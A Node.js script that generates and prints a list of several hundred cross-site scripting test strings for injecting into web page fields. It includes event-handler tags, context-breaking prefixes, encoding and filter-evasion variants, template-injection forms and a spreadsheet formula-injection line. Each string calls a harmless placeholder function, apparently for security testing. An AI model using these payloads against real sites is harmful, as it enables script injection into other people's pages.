// Texts that would run as a script if any of them were taken for HTML: at least 500, each a line of at most 150
// bytes. `node payloads.mjs` prints them. All of them call X, which the pages do not have: a short name, for some fields
// have room for 40 bytes.
const call = "X()";
const events = ["onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "oninput", "ontoggle", "onanimationstart",
    "ontransitionend", "onpointerenter", "onwheel", "onscroll", "oncopy", "ondrag", "onkeydown", "onbeforetoggle", "onauxclick"];
const tags = ["img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "object data=x",
    "embed src=x", "select autofocus", "textarea autofocus", "marquee", "a href=# autofocus", "style", "x contenteditable",
    "math", "button popovertarget=x"];
// For the fields with little room.
const small = ["b", "i", "p", "q", "s", "u"];
const breaks = ["", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</style>", "</script>", "</svg>",
    "</template>", "</noscript>", "</select>", "</table>", '"/>', "\\\">", "%22%3E", "&quot;&gt;", "&#34;&#62;", "\u2028\">", "\u202e\">"];
const bodies = [
    `<script>${call}</script>`,
    `<svg/onload=${call}>`,
    `<img src=x onerror=${call}>`,
    `<iframe srcdoc="<script>parent.${call}</script>">`,
    `<a href="javascript:${call}">x</a>`,
    `<form action="javascript:${call}"><button>x</button></form>`,
    `<meta http-equiv=refresh content="0;javascript:${call}">`,
    `<base href="javascript:${call}//">`,
    `<link rel=stylesheet href="data:text/css,*{color:red}">`,
    `<math><mi xlink:href="data:x,<script>${call}</script>">`,
];
const odd = [
    `<ScRiPt>${call}</sCrIpT>`, `<script >${call}</script >`, `<script/x>${call}</script>`, `<<script>${call}//<</script>`,
    `<scr<script>ipt>${call}</scr</script>ipt>`, `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`,
    `&#x3c;script&#x3e;${call}`, `\\x3cscript\\x3e${call}`, `\\u003cscript\\u003e${call}`, `%3Cscript%3E${call}%3C/script%3E`,
    `＜script＞${call}＜/script＞`, `‹script›${call}`, `javascript:${call}`, `JaVaScRiPt:${call}`, `java&#9;script:${call}`,
    ` javascript:${call}`, `data:text/html,<script>${call}</script>`, `vbscript:${call}`, `{{constructor.constructor('${call}')()}}`,
    `\${${call}}`, `<%= ${call} %>`, `#{${call}}`, `[[${call}]]`, `*/${call}/*`, `';${call};//`, `";${call};//`, `\\';${call};//`,
    `onload=${call}`, `" onload=${call} x="`, `' onload=${call} x='`, `" style="animation-name:x" onanimationstart="${call}`,
    `<!--><script>${call}</script>`, `<![CDATA[<script>${call}</script>]]>`, `<?xml-stylesheet href="javascript:${call}"?>`,
    `<!DOCTYPE x [<!ENTITY y "<script>${call}</script>">]>&y;`, `=cmd|' /C calc'!A0`, `@SUM(1+1)*${call}`, `=HYPERLINK("javascript:${call}")`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<svg><style><img src=x onerror=${call}></style></svg>`,
    `<template><script>${call}</script></template>`, `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set onend=${call} dur=1s>`, `<isindex action=javascript:${call}>`,
    `<object data="javascript:${call}">`, `<embed src="javascript:${call}">`, `<table background="javascript:${call}">`,
    `<div style="width:expression(${call})">`, `<style>@import "javascript:${call}"</style>`, `<p style="background:url(javascript:${call})">`,
    `\u0000<script>${call}</script>`.slice(1), `<script\u000d>${call}</script>`.replace("\r", ""), `\ufeff<script>${call}</script>`,
    `İ<script>${call}</script>`, `ß"><script>${call}</script>`, `שלום"><script>${call}</script>`, `مرحبا"><script>${call}</script>`,
];

export const payloads = [...new Set([
    ...[...tags, ...small].flatMap((tag) => events.map((event) => `<${tag} ${event}=${call}>`)),
    ...breaks.flatMap((close) => bodies.map((body) => close + body)),
    ...odd,
])].filter((p) => Buffer.byteLength(p) <= 150 && !/[\u0000-\u001f\u007f]/.test(p)).map((p) => p.normalize("NFC").trim());

if (process.argv[1] === new URL(import.meta.url).pathname) {
    console.log(payloads.join("\n"));
}
